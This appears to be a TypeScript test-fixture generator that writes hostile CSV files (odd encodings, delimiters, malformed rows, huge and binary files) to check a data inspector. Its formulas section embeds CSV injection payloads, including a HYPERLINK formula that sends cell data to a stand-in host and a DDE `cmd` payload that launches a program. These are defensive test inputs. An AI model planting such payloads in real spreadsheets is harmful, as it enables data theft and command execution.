/**
 * The hostile-input suite's files, generated (seeded) into a folder at test time: encodings
 * (UTF-8 with and without BOM, UTF-16 LE/BE with and without BOM, CP932 with ￥ and full-width
 * digits, EUC-JP, Windows-1252), dialects (, ; tab |, quotes, embedded newlines, CR-only line
 * ends), ragged and blank lines, decimal commas in every position, formulas in cells and
 * headers, tiny and huge files (empty, header only, one row, one column, 2,000 columns, a 3 MB
 * line), binary data, NUL bytes and values that occur once. Each file says what `inspect` must
 * find, or which error it must give.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { createRng, type Rng } from '../../base/random.js';

/** What reading a file must give. */
export type Expectation =
  | {
      ok: true;
      encoding?: string;
      delimiter?: string;
      rows?: number;
      /** Column name -> inferred type. */
      types?: Record<string, string>;
      /** Problem codes `inspect` must report. */
      problems?: string[];
      /** Problem codes it must not report. */
      absent?: string[];
      /** The error code `train` must refuse the file with (too little data), if it must. */
      train?: string;
      /** Values that must never appear in a model file or in generated rows. */
      secret?: string[];
      /** Cells that are formulas in the file. */
      formulas?: boolean;
      /** Column name -> what every generated cell of it must look like. */
      generated?: Record<string, RegExp>;
    }
  | { ok: false; error: string };

export interface HostileFile {
  name: string;
  path: string;
  expect: Expectation;
}

const SHOPS = ['東京本店', '大阪支店', '福岡支店'];
const TOWNS = ['Lyon', 'Nice', 'Metz'];

/** A plain table: shop, quantity, price, date, member — `rows` rows drawn from `rng`. */
function table(rng: Rng, rows: number, shops = SHOPS): string[][] {
  const out = [['shop', 'qty', 'price', 'date', 'member']];
  for (let i = 0; i < rows; i++)
    out.push([
      shops[rng.int(shops.length)],
      String(1 + rng.int(9)),
      (5 + rng.int(2000) / 100).toFixed(2),
      `2024-${String(1 + rng.int(12)).padStart(2, '0')}-${String(1 + rng.int(28)).padStart(2, '0')}`,
      rng.next() < 0.4 ? 'yes' : 'no',
    ]);
  return out;
}

const lines = (rows: string[][], d = ',', eol = '\n') => rows.map((r) => r.join(d)).join(eol) + eol;
const TYPES = { shop: 'categorical', qty: 'integer', price: 'numeric', date: 'date', member: 'boolean' };

type Spec = [name: string, bytes: Buffer | string, expect: Expectation];

function encodings(rng: Rng): Spec[] {
  const jp = lines(table(rng, 60));
  const ok = (encoding: string): Expectation => ({ ok: true, encoding, rows: 60, types: TYPES });
  const fr = lines(table(rng, 60, ['Crème', 'Thé', 'Café']), ';');
  const yen = [['店舗', '数量', '金額']];
  for (let i = 0; i < 60; i++) {
    const qty = 1 + rng.int(9);
    const amount = (qty * 1280)
      .toLocaleString('en-US')
      .replace(/[0-9,]/g, (c) => (c === ',' ? '，' : String.fromCharCode(c.charCodeAt(0) + 0xfee0)));
    yen.push([SHOPS[rng.int(3)], String.fromCharCode(0xff10 + qty), `￥${amount}`]);
  }
  return [
    ['utf8-bom.csv', `\uFEFF${jp}`, ok('utf-8')],
    ['utf8.csv', jp, ok('utf-8')],
    ['utf16le-bom.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(jp, 'utf16le')]), ok('utf-16le')],
    ['utf16be-bom.csv', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(jp, 'utf16be')]), ok('utf-16be')],
    ['utf16le.csv', iconv.encode(jp, 'utf16le'), ok('utf-16le')],
    ['utf16be.csv', iconv.encode(jp, 'utf16be'), ok('utf-16be')],
    ['eucjp.csv', iconv.encode(jp, 'eucjp'), ok('euc-jp')],
    ['win1252.csv', iconv.encode(fr, 'win1252'), { ok: true, encoding: 'windows-1252', delimiter: ';', rows: 60 }],
    [
      'cp932-yen.csv',
      iconv.encode(lines(yen, ',', '\r\n'), 'cp932'),
      { ok: true, encoding: 'shift_jis', rows: 60, types: { 店舗: 'categorical', 数量: 'integer', 金額: 'numeric' } },
    ],
  ];
}

function dialects(rng: Rng): Spec[] {
  const rows = table(rng, 60);
  const quoted = [['id_text', 'note', 'shop', 'qty']];
  for (let i = 0; i < 60; i++)
    quoted.push([
      `"${['a, b', 'say ""hi""', 'two\nlines', 'tab\there'][i % 4]}"`,
      `"${TOWNS[i % 3]};${i % 2}"`,
      SHOPS[i % 3],
      String(i % 7),
    ]);
  const ok = (delimiter: string): Expectation => ({ ok: true, delimiter, rows: 60, types: TYPES });
  return [
    ['semicolon.csv', lines(rows, ';'), ok(';')],
    ['tab.tsv', lines(rows, '\t'), ok('\t')],
    ['pipe.csv', lines(rows, '|'), ok('|')],
    ['cr-only.csv', lines(rows, ',', '\r'), ok(',')],
    ['quoted-multiline.csv', lines(quoted, ',', '\r\n'), { ok: true, delimiter: ',', rows: 60 }],
  ];
}

function raggedAndBlank(rng: Rng): Spec[] {
  const ragged = table(rng, 60).map((r, i) =>
    i > 0 && i % 9 === 0 ? r.slice(0, 3) : i % 13 === 0 && i > 0 ? [...r, 'x', 'y'] : r,
  );
  const blank = table(rng, 60).map((r, i) => (i > 0 && i % 10 === 0 ? ['', '', '', '', ''] : r));
  const unclosed = lines(table(rng, 30)) + 'Tokyo,"never closed,3,4\n' + lines(table(rng, 10).slice(1));
  return [
    [
      'ragged.csv',
      lines(ragged),
      { ok: true, rows: 60, problems: ['problems.tooFewFields.padded', 'problems.tooManyFields.padded'] },
    ],
    ['blank-rows.csv', `${lines(blank)}\n\n`, { ok: true, rows: 54, problems: ['problems.emptyRowsSkipped'] }],
    ['unclosed-quote.csv', unclosed, { ok: true, problems: ['problems.tooFewFields.padded'] }],
    [
      'dup-headers.csv',
      lines([
        ['a', 'a', '', 'qty'],
        ...table(rng, 40)
          .slice(1)
          .map((r) => r.slice(0, 4)),
      ]),
      { ok: true, rows: 40, problems: ['problems.headerRenamed'] },
    ],
  ];
}

function decimals(rng: Rng): Spec[] {
  // The audit's file: a semicolon file with a BOM whose fractions are written 0,383.
  const share = [['id', 'share', 'city']];
  for (let i = 0; i < 80; i++) share.push([String(i), `0,${String(rng.int(400)).padStart(3, '0')}`, TOWNS[i % 3]]);
  const every = [['half', 'price', 'delta', 'amount', 'spaced', 'short', 'swiss']];
  for (let i = 0; i < 60; i++) {
    const k = String(234 + rng.int(700)).padStart(3, '0');
    every.push([
      `${rng.int(3)},5`,
      `${12 + rng.int(5)},75`,
      `-3,${1 + rng.int(9)}`,
      `1.${k},56`,
      `1 ${k},56`,
      `,${1 + rng.int(9)}`,
      `1'${k}.5`,
    ]);
  }
  const either = [['amount', 'city']];
  for (let i = 0; i < 40; i++)
    either.push([`${1 + rng.int(9)},${String(rng.int(1000)).padStart(3, '0')}`, TOWNS[i % 3]]);
  const numeric = (...names: string[]) => Object.fromEntries(names.map((n) => [n, 'numeric']));
  return [
    [
      'decimal-share.csv',
      `\uFEFF${lines(share, ';', '\r\n')}`,
      {
        ok: true,
        types: numeric('share'),
        absent: ['problems.ambiguousDecimal', 'problems.unparsedValues'],
        generated: { share: /^0,[0-3]\d\d$/ },
      },
    ],
    [
      'decimal-every.csv',
      lines(every, ';'),
      {
        ok: true,
        types: numeric('half', 'price', 'delta', 'amount', 'spaced', 'short', 'swiss'),
        absent: ['problems.unparsedValues'],
      },
    ],
    [
      'decimal-either.csv',
      lines(either, ';'),
      { ok: true, types: numeric('amount'), problems: ['problems.ambiguousDecimal'] },
    ],
  ];
}

function formulas(rng: Rng): Spec[] {
  const evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+SUM(A1)', '@cmd', '-2+3', '＝1+1'];
  const rows = [["=cmd|' /C calc'!A0", 'qty', 'note']];
  for (let i = 0; i < 80; i++)
    rows.push([`"${evil[i % evil.length].replace(/"/g, '""')}"`, String(rng.int(5) - 2), `-${i % 4}`]);
  return [['formulas.csv', lines(rows), { ok: true, rows: 80, formulas: true }]];
}

function sizes(rng: Rng): Spec[] {
  const wide = [Array.from({ length: 2000 }, (_, j) => `c${j}`)];
  for (let i = 0; i < 30; i++) wide.push(Array.from({ length: 2000 }, () => String(rng.int(3))));
  const long = table(rng, 40);
  long[7][0] = 'x'.repeat(3 << 20);
  return [
    ['empty.csv', '', { ok: false, error: 'data.empty' }],
    ['bom-only.csv', '\uFEFF', { ok: false, error: 'data.empty' }],
    ['blank-lines-only.csv', '\n\r\n \n', { ok: false, error: 'data.empty' }],
    ['header-only.csv', 'shop,qty,price\r\n', { ok: false, error: 'data.headerOnly' }],
    ['header-and-blank-rows.csv', 'shop,qty,price\n,,\n,,\n', { ok: false, error: 'data.headerOnly' }],
    ['one-row.csv', lines(table(rng, 1)), { ok: true, rows: 1, train: 'data.tooFewTrainingRows' }],
    [
      'one-column.csv',
      ['qty', ...Array.from({ length: 30 }, () => String(rng.int(9)))].join('\n'),
      { ok: false, error: 'data.singleColumn' },
    ],
    ['wide-2000.csv', lines(wide), { ok: true, rows: 30, problems: ['problems.tooManyColumns'] }],
    ['line-3mb.csv', lines(long), { ok: true, rows: 40 }],
  ];
}

function binaries(rng: Rng): Spec[] {
  const random = Buffer.from(Array.from({ length: 5000 }, () => rng.int(256)));
  const nul = Buffer.from(lines(table(rng, 40)));
  for (let i = 50; i < nul.length; i += 97) nul[i] = 0;
  const xlsx = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), random.subarray(0, 2000)]);
  return [
    ['random.bin.csv', random, { ok: false, error: 'data.binary' }],
    ['nul-bytes.csv', nul, { ok: false, error: 'data.binary' }],
    ['spreadsheet.xlsx', xlsx, { ok: false, error: 'data.binary' }],
  ];
}

function rareValues(rng: Rng): Spec[] {
  const secret = Array.from(
    { length: 40 },
    (_, i) => `Client-${(rng.nextUint32() % 1e6).toString().padStart(6, '0')}-${i}`,
  );
  const rows = [['customer', 'shop', 'qty']];
  for (let i = 0; i < 400; i++)
    rows.push([i < 40 ? secret[i] : ['Acme', 'Globex', 'Initech'][i % 3], SHOPS[i % 3], String(rng.int(6))]);
  return [['rare-values.csv', lines(rows), { ok: true, rows: 400, types: { customer: 'categorical' }, secret }]];
}

/** Writes every hostile file into `dir` (seeded: the same files every time) and says what each must give. */
export function writeHostileFiles(dir: string, seed = 10): HostileFile[] {
  const rng = createRng(seed);
  const specs = [
    ...encodings(rng),
    ...dialects(rng),
    ...raggedAndBlank(rng),
    ...decimals(rng),
    ...formulas(rng),
    ...sizes(rng),
    ...binaries(rng),
    ...rareValues(rng),
  ];
  const files = specs.map(([name, bytes, expect]) => {
    const path = join(dir, name);
    writeFileSync(path, bytes);
    return { name, path, expect };
  });
  const folder = join(dir, 'a-folder.csv');
  mkdirSync(folder);
  files.push({ name: 'a-folder.csv', path: folder, expect: { ok: false, error: 'data.isDirectory' } });
  files.push({ name: 'missing.csv', path: join(dir, 'missing.csv'), expect: { ok: false, error: 'data.notFound' } });
  return files;
}
